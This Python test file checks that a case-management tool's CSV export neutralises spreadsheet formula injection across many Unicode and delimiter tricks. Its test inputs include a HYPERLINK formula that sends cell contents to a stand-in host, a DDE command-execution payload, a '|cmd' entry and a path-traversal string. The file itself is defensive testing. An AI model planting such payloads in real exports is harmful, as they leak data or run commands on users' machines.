"""Files for a spreadsheet: no cell of them is a formula, whatever anybody wrote, and every sign arrives."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tracepost.console.spreadsheet import csv_file, defused, returned_later, without_unprintable
from tracepost.locale.values import printable
from tracepost.sdk.intake.tables import ROW_HEADING, read_table

BREAKS = dict.fromkeys(map(ord, "\n\r\u2028"), " ")
FORMULAS = (
    '=HYPERLINK("https://xyz.example/?"&A1,"here")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u2028=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2068=1+1\u2069",
    "\u00a0-1",
    "%0A=1",
    "|cmd",
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_text(formula: str) -> None:
    assert defused(formula) == f"'{printable(formula.translate(BREAKS))}"


@pytest.mark.parametrize(
    ("text", "becomes"),
    [
        ("a;=1", "a;'=1"),
        ("a; =1,@x", "a;' =1,'@x"),
        ('x"=1', "x\"'=1"),
        ("a;\u200b\uff1d1", "a;'\ufffd\uff1d1"),
        ("a\r\n=1", "a =1"),
        ("a\u2029b\x85c\rd", "a b c d"),
        (";;-1", ";;'-1"),
    ],
)
def test_what_a_spreadsheet_may_split_is_no_formula_behind_the_split(text: str, becomes: str) -> None:
    assert defused(text) == becomes


@pytest.mark.parametrize(
    "text", ["", "AK-12", "2026-01-01", "a=b", "xaa", "ЕАО 512", "القضية", "../../etc/passwd"]
)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert defused(text) == text


SIGNS = ("=", "+", "-", "@", "\t", "\uff1d", "\uff0b")
UNSEEN = " \t\r\n\u200b\ufffd"


def read(content: bytes, delimiter: str = ",") -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "by it a spreadsheet knows UTF-8"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


@given(st.lists(st.lists(st.text(max_size=30), min_size=1, max_size=4), max_size=4))
@example([['"=1', "a,=1", "a;=1\n=2"], ["案件", "القضية", "дело"]])
@example([['a"\r\n=1,"']])
def test_rows_and_cells_come_back_as_they_were_and_none_begins_a_formula(rows: list[list[str]]) -> None:
    came = read(bytes(csv_file("tracepost-cases", rows).body))
    assert came == [[defused(cell) for cell in row] for row in rows]
    for cell in (cell for row in came for cell in row):
        assert not cell.lstrip().startswith(SIGNS)


@given(
    st.lists(st.lists(st.text('a;," =-@\n\r\u200b\uff1d', max_size=12), min_size=1, max_size=4), max_size=4)
)
@example([["xaa", "Ruger;=HYPERLINK(1)"]])
@example([["xaa", 'Ruger"\n=1', '";@x']])
@example([["a;"], ['"=1']])
def test_no_cell_begins_a_formula_where_a_spreadsheet_splits_at_semicolons(rows: list[list[str]]) -> None:
    for row in read(bytes(csv_file("tracepost-marks", rows).body), ";"):
        assert not [cell for cell in row if cell.lstrip(UNSEEN).startswith(SIGNS)]


CELLS = st.text(st.sampled_from("a1;,\"' =-+@\n\r\u00a0\uff1d") | st.characters(codec="utf-8"), max_size=12)


def as_read(rows: list[list[str]], head: str) -> list[tuple[str, ...]]:
    sheet = csv_file("tracepost-weapons", [[head, "serial"], *([f"n{cell}", cell] for [cell] in rows)], str)
    return [row.cells for row in read_table(bytes(sheet.body)).rows]


@given(st.lists(CELLS, max_size=4))
@example(["9mm, +P", "A; -5", "'A", "''A", "' A", '="00123"', "=1\r\n=2", "A;'B"])
def test_what_was_read_once_and_is_saved_for_later_comes_back_exactly_or_not_at_all(cells: list[str]) -> None:
    first = [row[1] for row in as_read([[cell] for cell in cells], "marks")]
    heading = [ROW_HEADING, "model"]
    saved = csv_file(
        "tracepost-refused-rows",
        [heading, *(["2", without_unprintable(cell)] for cell in first)],
        returned_later,
    )
    again = [row.cells[1] for row in read_table(bytes(saved.body)).rows]
    assert again == [without_unprintable(cell) for cell in first]
    for delimiter in ",;":
        for row in read(bytes(saved.body), delimiter):
            assert not [cell for cell in row if cell.lstrip(UNSEEN + '"').startswith(SIGNS)]


@pytest.mark.parametrize("cell", ["9\u200bmm", "\x07A", "A\tB", "\ue000"])
def test_a_cell_with_a_sign_that_is_not_shown_is_saved_empty(cell: str) -> None:
    assert without_unprintable(cell) == ""
    assert without_unprintable("9\u00a0mm\nPara") == "9\u00a0mm\nPara"


def test_the_browser_is_told_the_name_and_to_keep_the_file() -> None:
    headers = csv_file("tracepost-cases", []).headers
    assert headers["content-disposition"] == 'attachment; filename="tracepost-cases.csv"'
    assert headers["content-type"] == "text/csv; charset=utf-8"
